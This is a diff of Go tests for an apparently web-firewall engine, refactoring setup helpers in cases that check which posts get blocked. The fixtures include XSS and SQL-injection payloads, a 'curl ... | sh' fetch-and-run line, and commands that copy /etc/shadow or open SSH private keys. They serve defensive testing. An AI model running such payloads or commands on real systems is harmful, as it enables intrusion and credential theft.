@@ -23,6 +23,32 @@ func textRequests(body string) map[string]*Request {
 	}
 }
 
+// A textPost is a body posted as an article, and whether it must be blocked.
+type textPost struct {
+	body  string
+	block bool
+}
+
+// wantPosts checks each post with the default config (see
+// [wantPostBlocked]).
+func wantPosts(t *testing.T, posts []textPost) {
+	t.Helper()
+	e := defaultEngine(t)
+	for _, p := range posts {
+		wantPostBlocked(t, e, p.body, p.block)
+	}
+}
+
+// defaultEngine is an engine with the default config.
+func defaultEngine(t *testing.T) *Engine {
+	t.Helper()
+	e, err := New(Config{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	return e
+}
+
 // wantPostBlocked checks that e blocks body, or lets it through, posted as
 // an article in JSON and in a form.
 func wantPostBlocked(t *testing.T, e *Engine, body string, block bool) {
@@ -38,10 +64,7 @@ func wantPostBlocked(t *testing.T, e *Engine, body string, block bool) {
 // its attacks in the prose of a post: stored XSS, a quote closed then SQL,
 // a separator then a command. A rule turned off fails its case.
 func TestFreeTextAttacks(t *testing.T) {
-	e, err := New(Config{})
-	if err != nil {
-		t.Fatal(err)
-	}
+	e := defaultEngine(t)
 	for _, c := range []struct{ rule, payload string }{
 		{"bw-xss-002", "<script>alert(document.domain)</script>"},
 		{"bw-xss-002", `<iframe srcdoc="<script>alert(1)</script>"></iframe>`},
@@ -83,14 +106,7 @@ func TestFreeTextAttacks(t *testing.T) {
 // in its prose is no attack; and that markup in an HTML <code> element,
 // which browsers run, still is.
 func TestFreeTextCode(t *testing.T) {
-	e, err := New(Config{})
-	if err != nil {
-		t.Fatal(err)
-	}
-	for _, c := range []struct {
-		body  string
-		block bool
-	}{
+	wantPosts(t, []textPost{
 		{prose + "\n\n```html\n<script>\n  alert(document.cookie);\n</script>\n```\n\n" + prose, false},
 		{prose + "\n\n```sql\nSELECT * FROM users WHERE name = '' OR '1'='1';\nDROP TABLE users; --\n```\n\n" + prose, false},
 		{prose + "\n\n~~~sh\ncurl https://example.com/x.sh | sh\nwhoami; cat /etc/hosts\n~~~\n\n" + prose, false},
@@ -113,19 +129,14 @@ func TestFreeTextCode(t *testing.T) {
 		{prose + " <pre>x' or '1'='1</pre> " + prose, true},
 		{prose + " It's <pre>x' or '1'='1</pre> " + prose, false},
 		{prose + "\n\n```\n" + prose + "\n```\n\n<script>alert(1)</script>\n", true},
-	} {
-		wantPostBlocked(t, e, c.body, c.block)
-	}
+	})
 }
 
 // TestFreeTextNotValues checks that what is not free text is judged as a
 // value: a payload with few words, a query parameter, a line break in a
 // header-like place.
 func TestFreeTextNotValues(t *testing.T) {
-	e, err := New(Config{})
-	if err != nil {
-		t.Fatal(err)
-	}
+	e := defaultEngine(t)
 	for _, c := range []struct {
 		name string
 		r    *Request
@@ -167,10 +178,7 @@ func FuzzProseView(f *testing.F) {
 // naming an API ("Reflect.apply()", "abs() CSS function", "property name
 // __proto__ appears twice") passes: each still blocks its attacks.
 func TestNamesInTitles(t *testing.T) {
-	e, err := New(Config{})
-	if err != nil {
-		t.Fatal(err)
-	}
+	e := defaultEngine(t)
 	for _, c := range []struct {
 		q, rule string // rule "" passes (not blocked)
 	}{
@@ -246,16 +254,10 @@ func TestReadsAsProseFraming(t *testing.T) {
 // TestFreeTextREADME checks that a README's markup around its prose is no
 // attack, while an event handler or a script URL in the same markup is.
 func TestFreeTextREADME(t *testing.T) {
-	e, err := New(Config{})
-	if err != nil {
-		t.Fatal(err)
-	}
+	e := defaultEngine(t)
 	readme := "<div align=\"center\">\n  <br/>\n  <img src=\"https://example.com/logo.png\" width=\"80\" style=\"float: left; width: 25%\" alt=\"logo\">\n</div>\n\n" +
 		"| [index](../README.md) | [run-s](run-s.md) | [run-p](run-p.md) | Node API |\n|---|---|---|---|\n\n" + prose + "\n\n[npm-url]: https://npmjs.org/package/thing\n"
-	for _, c := range []struct {
-		body  string
-		block bool
-	}{
+	for _, c := range []textPost{
 		{readme, false},
 		{strings.Replace(readme, `alt="logo"`, `alt="logo" onerror="alert(1)"`, 1), true},
 		{strings.Replace(readme, `https://example.com/logo.png`, `javascript:alert(1)`, 1), true},
@@ -273,14 +275,7 @@ func TestFreeTextREADME(t *testing.T) {
 // not), while a value that opens with one, or climbs out of a directory
 // tree, is still read as a path.
 func TestFreeTextSystemPaths(t *testing.T) {
-	e, err := New(Config{})
-	if err != nil {
-		t.Fatal(err)
-	}
-	for _, c := range []struct {
-		body  string
-		block bool
-	}{
+	wantPosts(t, []textPost{
 		{prose + " When bash starts as a login shell it reads /etc/profile, then ~/.bash_profile; redirect the input from /dev/null. " + prose, false},
 		{prose + " Keys are in /etc/ssh and the kernel shows them in /proc/self/status. " + prose, false},
 		{"/etc/passwd " + prose, true},
@@ -297,19 +292,14 @@ func TestFreeTextSystemPaths(t *testing.T) {
 		// from code too, cat /etc/passwd, are in reShellInCode).
 		{prose + "\ncp /etc/shadow /tmp/s; " + prose, true},
 		{prose + " && vi ~/.ssh/id_rsa " + prose, true},
-	} {
-		wantPostBlocked(t, e, c.body, c.block)
-	}
+	})
 }
 
 // TestFreeTextDocumentShapes checks shapes of real READMEs that read as
 // free text: a table of contents of anchors, a table of code spans, words
 // joined by a slash.
 func TestFreeTextDocumentShapes(t *testing.T) {
-	e, err := New(Config{})
-	if err != nil {
-		t.Fatal(err)
-	}
+	e := defaultEngine(t)
 	for _, body := range []string{
 		"* <a href=\"#install\">Installing/upgrading</a>\n* <a href=\"#usage\">Usage</a>\n  * <a href=\"#querying\">Basic querying</a>\n  * <a href=\"#operators\">Operators ($lt, $gt, $in)</a>\n* <a href=\"#sorting\">Sorting and paginating</a>",
 		"| Syntax | Expands to |\n| --- | --- |\n| `npm:<script>` | `npm run <script>` |\n| `yarn:<script>` | `yarn run <script>` |",
